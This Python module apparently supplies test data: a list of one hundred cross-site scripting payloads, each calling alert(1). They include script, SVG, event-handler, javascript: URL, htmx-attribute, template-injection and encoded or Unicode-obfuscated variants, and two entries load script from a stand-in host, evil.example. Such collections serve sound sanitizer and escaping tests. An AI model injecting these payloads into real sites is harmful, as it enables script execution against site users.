"""One hundred texts that would run a script where a page does not escape them. Each calls alert."""

from __future__ import annotations

_TAGS = """<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src="data:text/javascript,alert(1)"></script>
<script type=module>alert(1)</script>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img/src/onerror=alert(1)>
<img src='x' onerror='alert(1)'/>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
`><img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributename=x>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x">
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<a href="javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video src=x onerror=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<div style="background:url(javascript:alert(1))">x</div>
<style>@import 'javascript:alert(1)';</style>
<link rel=stylesheet href="javascript:alert(1)">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href="javascript:alert(1)//">
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><svg/onload=alert(1)>">
<p onclick=alert(1)>x</p>
<p onmouseover=alert(1)>x</p>
<div data-hx-get="/events" data-hx-trigger="load" data-hx-on:load="alert(1)">x</div>
<div hx-on="load: alert(1)">x</div>
<div hx-trigger="load[alert(1)]" hx-get="/">x</div>
<div hx-vals="js:{a: alert(1)}" hx-get="/" hx-trigger=load>x</div>
<x onpointerover=alert(1) contenteditable autofocus onfocus=alert(1)>x
<isindex type=image src=1 onerror=alert(1)>
<table background="javascript:alert(1)"><td>x</td></table>
<dialog open onclose=alert(1)>x</dialog>
<portal src="javascript:alert(1)">
<applet code="javascript:alert(1)">""".splitlines()
_ATTRIBUTES = """" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus="alert(1)" x="
' autofocus onfocus='alert(1)' x='
"onfocus=alert(1) autofocus "
x" onload="alert(1)
javascript:alert(1)
JaVaScRiPt:alert(1)
java	script:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:alert(1)
//evil.example/x.js
\\\\evil.example\\x""".splitlines()
_SCRIPTS = """'-alert(1)-'
";alert(1);//
\\";alert(1);//
${alert(1)}
`${alert(1)}`
{{constructor.constructor('alert(1)')()}}
{{7*7}}{% print(1) %}
{% raw %}<script>alert(1)</script>{% endraw %}
<%= alert(1) %>
#{alert(1)}""".splitlines()
_ENCODED = [
    r"\u003cscript\u003ealert(1)\u003c/script\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u202e<script>alert(1)</script>",
    "\ufeff<img src=x onerror=alert(1)>",
    "\u2028<script>alert(1)</script>\u2029",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<<script>alert(1)//<</script>",
    "<script >alert(1)</script >",
]
PAYLOADS = [*_TAGS, *_ATTRIBUTES, *_SCRIPTS, *_ENCODED]
